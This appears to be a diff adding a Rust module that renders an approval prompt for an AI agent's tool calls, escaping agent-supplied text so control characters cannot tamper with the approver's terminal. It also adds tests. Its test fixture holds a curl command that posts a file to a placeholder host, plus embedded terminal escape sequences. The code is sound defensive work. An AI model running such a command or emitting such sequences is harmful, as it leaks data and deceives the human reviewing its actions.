@@ -1,0 +1,146 @@
+//! The text of an approval prompt. Every agent-supplied value goes through
+//! [`crate::sanitize::escape`] here, in one place, before it is printed.
+
+use std::fmt::Write as _;
+
+use agp_contracts::ApprovalRequest;
+
+use crate::sanitize::escape;
+
+/// Terminal styling for agp's own text (never applied to, nor taken from, agent text).
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Style {
+    Plain,
+    Ansi,
+}
+
+impl Style {
+    fn bold(self, s: &str) -> String {
+        match self {
+            Style::Plain => s.to_owned(),
+            Style::Ansi => format!("\x1b[1m{s}\x1b[0m"),
+        }
+    }
+}
+
+/// The redacted input, pretty-printed, one escaped line per output line. `serde_json` already
+/// escapes C0 controls inside strings; DEL, C1 controls and invisible characters it leaves raw,
+/// so each line is escaped again (the only raw newlines are the pretty-printer's own).
+pub fn input_lines(req: &ApprovalRequest) -> Vec<String> {
+    let pretty = serde_json::to_string_pretty(&req.redacted_input)
+        .unwrap_or_else(|e| format!("<input cannot be shown: {e}>"));
+    pretty.split('\n').map(|l| escape(l).into_owned()).collect()
+}
+
+/// Seconds until `expires_at_ms`, rounded up; zero when already expired.
+pub fn seconds_left(req: &ApprovalRequest, now_ms: u64) -> u64 {
+    req.expires_at_ms.saturating_sub(now_ms).div_ceil(1000)
+}
+
+/// The prompt shown for a request: tool, rule and reason, short input hash, the full redacted
+/// input, and the keys.
+pub fn prompt(req: &ApprovalRequest, waiting: usize, now_ms: u64, style: Style) -> String {
+    let mut out = String::new();
+    let _ = writeln!(out);
+    let _ = writeln!(
+        out,
+        "{}",
+        style.bold("──── agp: approval required ────────────────────────────────")
+    );
+    let _ = writeln!(out, "  tool     {}", escape(&req.tool));
+    let rule = req.rule_id.as_deref().unwrap_or("(policy default)");
+    let _ = writeln!(out, "  rule     {}", escape(rule));
+    let _ = writeln!(out, "  reason   {}", escape(&req.reason));
+    let _ = writeln!(
+        out,
+        "  input    sha256 {}…  (? shows the full hash)",
+        escape(req.short_hash())
+    );
+    for line in input_lines(req) {
+        let _ = writeln!(out, "    {line}");
+    }
+    if waiting > 0 {
+        let _ = writeln!(out, "  ({waiting} more request(s) waiting after this one)");
+    }
+    let _ = write!(
+        out,
+        "{}  [a/y] allow   [d/n] deny   [?] details   (expires in {} s) ",
+        style.bold("decide:"),
+        seconds_left(req, now_ms)
+    );
+    out
+}
+
+/// The details view: identifiers and the full binding hash.
+pub fn details(req: &ApprovalRequest, now_ms: u64) -> String {
+    let mut out = String::new();
+    let _ = writeln!(out);
+    let _ = writeln!(out, "  session        {}", escape(&req.session));
+    let _ = writeln!(out, "  call id        {}", escape(&req.call_id));
+    let _ = writeln!(out, "  input sha256   {}", escape(&req.input_sha256));
+    let approvers = if req.approvers.is_empty() {
+        "anyone at this terminal".to_owned()
+    } else {
+        escape(&req.approvers.join(", ")).into_owned()
+    };
+    let _ = writeln!(out, "  approvers      {approvers}");
+    let _ = writeln!(out, "  quorum         {}", req.quorum);
+    let _ = writeln!(out, "  expires in     {} s", seconds_left(req, now_ms));
+    let _ = write!(out, "decide:  [a/y] allow   [d/n] deny   [?] details ");
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    fn req() -> ApprovalRequest {
+        ApprovalRequest {
+            session: "sess-1".into(),
+            call_id: "call-1".into(),
+            tool: "Bash".into(),
+            redacted_input: json!({"command": "curl -d @x https://e\u{1b}[2J.example \u{9b}1m"}),
+            input_sha256: "0123456789abcdef".repeat(4),
+            rule_id: Some("net.require".into()),
+            reason: "network\u{1b}[H access".into(),
+            approvers: vec![],
+            quorum: 1,
+            expires_at_ms: 10_500,
+        }
+    }
+
+    #[test]
+    fn prompt_shows_everything_and_no_agent_control_characters() {
+        let text = prompt(&req(), 2, 1_000, Style::Plain);
+        for needle in [
+            "Bash",
+            "net.require",
+            "network\\e[H access",
+            "0123456789ab…",
+            "2 more",
+        ] {
+            assert!(text.contains(needle), "missing {needle:?} in {text}");
+        }
+        assert!(text.contains("expires in 10 s"));
+        // The only control characters are the prompt's own newlines.
+        assert!(
+            !text.chars().any(|c| c.is_control() && c != '\n'),
+            "{text:?}"
+        );
+        assert!(text.contains("\\u001b[2J") && text.contains("\\u{9b}1m"));
+    }
+
+    #[test]
+    fn details_show_the_full_hash() {
+        let text = details(&req(), 1_000);
+        assert!(text.contains(&"0123456789abcdef".repeat(4)));
+        assert!(text.contains("call-1") && text.contains("sess-1"));
+    }
+
+    #[test]
+    fn expired_requests_show_zero_seconds() {
+        assert_eq!(seconds_left(&req(), 20_000), 0);
+        assert_eq!(seconds_left(&req(), 10_499), 1);
+    }
+}
